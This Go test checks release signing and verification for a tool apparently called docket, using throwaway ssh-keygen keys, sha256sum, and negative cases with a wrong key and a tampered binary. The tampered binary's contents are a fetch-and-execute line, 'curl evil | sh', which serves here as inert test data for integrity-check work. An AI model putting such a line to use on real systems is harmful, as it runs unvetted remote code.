package main

import (
	"bytes"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"github.com/docketlabs/docket/internal/release"
)

// A tiny release signed by scripts/release-sign.sh with a key made here,
// checked by `docket version --verify` and by the documented ssh-keygen and
// sha256sum commands.
func TestReleaseSignAndVerify(t *testing.T) {
	for _, tool := range []string{"ssh-keygen", "sha256sum", "bash"} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Skipf("%s not installed", tool)
		}
	}
	work := t.TempDir()
	key := filepath.Join(work, "release-key")
	runTool(t, work, nil, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "docket release test", "-f", key)
	otherKey := filepath.Join(work, "other-key")
	runTool(t, work, nil, "ssh-keygen", "-q", "-t", "ed25519", "-N", "", "-C", "someone else", "-f", otherKey)

	dist := filepath.Join(work, "dist")
	if err := os.Mkdir(dist, 0o755); err != nil {
		t.Fatal(err)
	}
	for name, content := range map[string]string{
		"docket_test_linux_amd64":          "#!/bin/sh\necho docket\n",
		"docket_test_linux_amd64.cdx.json": `{"bomFormat":"CycloneDX","specVersion":"1.6"}`,
	} {
		if err := os.WriteFile(filepath.Join(dist, name), []byte(content), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	script, err := filepath.Abs("../../scripts/release-sign.sh")
	if err != nil {
		t.Fatal(err)
	}
	runTool(t, work, []string{"DOCKET_RELEASE_KEY=" + key}, "bash", script, dist)

	out, err := runVersion(dist, key+".pub")
	if err != nil {
		t.Fatalf("verify of a good release: %v\n%s", err, out)
	}
	if !strings.Contains(out, "2 files match SHA256SUMS") {
		t.Fatalf("verify output:\n%s", out)
	}

	// The commands the help text gives for checking without docket.
	pub, err := os.ReadFile(key + ".pub")
	if err != nil {
		t.Fatal(err)
	}
	allowed := filepath.Join(work, "allowed_signers")
	if err := os.WriteFile(allowed, append([]byte("docket "), pub...), 0o644); err != nil {
		t.Fatal(err)
	}
	sums, err := os.ReadFile(filepath.Join(dist, release.SumsFile))
	if err != nil {
		t.Fatal(err)
	}
	cmd := exec.Command("ssh-keygen", "-Y", "verify", "-f", allowed, "-I", "docket", "-n", release.Namespace, "-s", filepath.Join(dist, release.SigFile))
	cmd.Stdin = bytes.NewReader(sums)
	if b, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("ssh-keygen -Y verify: %v\n%s", err, b)
	}
	runTool(t, dist, nil, "sha256sum", "--strict", "-c", release.SumsFile)

	if out, err := runVersion(dist, otherKey+".pub"); err == nil || !strings.Contains(err.Error(), "another key") {
		t.Fatalf("verify with the wrong key: err %v\n%s", err, out)
	}
	bin := filepath.Join(dist, "docket_test_linux_amd64")
	if err := os.WriteFile(bin, []byte("#!/bin/sh\ncurl evil | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	if out, err := runVersion(dist, key+".pub"); err == nil || !strings.Contains(err.Error(), "docket_test_linux_amd64: SHA-256") {
		t.Fatalf("verify of a changed binary: err %v\n%s", err, out)
	}
}

func runVersion(dir, key string) (string, error) {
	cmd := versionCommand()
	var out bytes.Buffer
	cmd.SetOut(&out)
	cmd.SetErr(&out)
	cmd.SetArgs([]string{"--verify", dir, "--key", key})
	err := cmd.Execute()
	return out.String(), err
}

func runTool(t *testing.T, dir string, env []string, name string, args ...string) {
	t.Helper()
	cmd := exec.Command(name, args...)
	cmd.Dir = dir
	cmd.Env = append(os.Environ(), env...)
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
}
